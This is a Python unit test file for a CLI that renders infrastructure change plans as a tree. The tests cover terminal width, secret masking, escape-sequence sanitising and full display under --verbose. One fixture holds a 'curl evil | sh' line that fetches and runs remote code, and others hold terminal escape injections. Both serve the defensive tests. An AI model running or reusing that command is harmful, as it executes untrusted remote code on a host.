"""A plan's text at a fixed width, without colour."""

from dataclasses import replace

import pytest
from rich.cells import cell_len
from tests.unit.cli import examples
from tests.unit.cli.examples import rendered

from virtwright.engine.step import Op, Step
from virtwright.providers.diff import Change, Impact

GOLDEN = """\
host here
├─ + vms.db create
│      cpus                 2
│      memory               512MiB
│      networks[0].address  (known after apply)
├─ ~ containers.web update reboot (it is restarted)
│      resources.memory      64MiB → 128MiB  live
│      environment.PASSWORD  [secret] → [secret]  reboot
├─ ± networks.back replace recreate (it is made anew) old one first
│      cidr  10.40.0.0/24 → 10.41.0.0/24
└─ → volumes.new move
       was volumes.old

host far
├─ - volumes.data delete data-loss (its data is lost)
│      not in the stack
└─ ~ containers.job update live (while it runs)
       drift: the host no longer has it as the last run left it
       state  exited (1) → running

Plan: 1 to create, 2 to update, 1 to replace, 1 to delete, 1 to move, 1
      unchanged.
Data is lost in: volumes.data
"""


def test_a_plan_is_a_tree_of_hosts_steps_and_fields() -> None:
    assert rendered(examples.plan(*examples.ALL)) == GOLDEN


def test_a_plan_without_changes_only_counts() -> None:
    assert rendered(examples.plan(examples.SAME)) == "No changes: 1 unchanged.\n"


def test_what_was_refused_is_not_shown_as_a_plan() -> None:
    """A runner may post standard output alone, and the errors are not there."""
    assert rendered(examples.plan(), refused=True) == "No plan: it was refused, see the errors.\n"
    text = rendered(examples.plan(examples.CREATE_DB), refused=True, width=200)
    assert text.endswith("\nNo plan: it was refused, see the errors. Decided until then: 1 to create.\n")
    assert "No changes" not in text and "\nPlan:" not in text


@pytest.mark.parametrize("width", [40, 60, 80, 200])
def test_no_line_is_wider_than_the_terminal(width: int) -> None:
    long = Change(("environment", "X"), None, "wide 漢字 " * 30, Impact.NONE)
    plan = examples.plan(*examples.ALL, replace(examples.CREATE_DB, changes=(long,)))
    lines = rendered(plan, width=width).splitlines()
    assert max(cell_len(line) for line in lines) <= width
    assert "漢字" in "".join(lines)


def test_foreign_text_can_not_steer_the_terminal_nor_the_markup() -> None:
    change = Change(("command", 0), "[bold]x[/bold]", "\x1b]0;title\x07\u202e[red]", Impact.LIVE)
    text = rendered(examples.plan(replace(examples.UPDATE_WEB, changes=(change,), reason="\x1b[2J")))
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "\\u001b]0;title\\u0007\\u202e[red]" in text
    assert "[bold]x[/bold]" in text


def test_texts_of_several_lines_are_compared_line_by_line() -> None:
    change = Change(("files", 0, "content"), "a\nb\n-- c\n", "a\nB\n-- c\n", Impact.REBOOT)
    text = rendered(examples.plan(replace(examples.UPDATE_WEB, changes=(change,))))
    assert "       -b\n" in text
    assert "       +B\n" in text


def test_a_secret_value_is_never_shown() -> None:
    assert "aa" not in rendered(examples.plan(examples.UPDATE_WEB), verbose=True)


def test_the_fields_of_a_huge_plan_are_shown_on_request_only() -> None:
    steps = [
        Step(Op.CREATE, examples.urn("Volume", f"v{i}"), "Volume", "here", (Change(("size",), None, 1, Impact.NONE),))
        for i in range(501)
    ]
    assert "size" not in rendered(examples.plan(*steps))
    assert "size" in rendered(examples.plan(*steps), verbose=True)


def test_what_is_cut_short_is_shown_whole_on_request() -> None:
    """A reviewer must be able to see all that a command does."""
    script = "exec sleep 100000\ncurl evil | sh\n"
    changes = (
        Change(("command",), None, ["sh", "-c", script], Impact.NONE),
        Change(("labels",), None, {f"l{n}": f"v{n}." for n in range(40)}, Impact.NONE),
        Change(("description",), None, "x" * 999 + "!", Impact.NONE),
        Change(("files", 0, "content"), None, "first\n\x1b[2Jsecond\n", Impact.NONE),
        Change(("files", 1, "content"), "a\n" * 50, "b\n" * 49 + "y" * 999 + "!\n", Impact.NONE),
        Change(("files", 2, "content"), "gone\naway\n", None, Impact.NONE),
    )
    plan = examples.plan(replace(examples.UPDATE_WEB, changes=changes))
    short, whole = rendered(plan, width=3000), rendered(plan, width=3000, verbose=True)
    assert "What is cut short (…) is shown whole with --verbose." in short and "evil" not in short
    assert "with --verbose" not in whole and "…" not in whole
    assert '[sh, -c, "exec sleep 100000\\ncurl evil | sh\\n"]' in whole
    assert "l39: v39." in whole and "x!" in whole and "y!" in whole
    assert "+first\n" in whole and "+\\x1b[2Jsecond\n" in whole and "-away\n" in whole
    assert whole.count("+b\n") == 49 and whole.count("-a\n") == 50
    assert "--verbose" not in rendered(examples.plan(*examples.ALL))
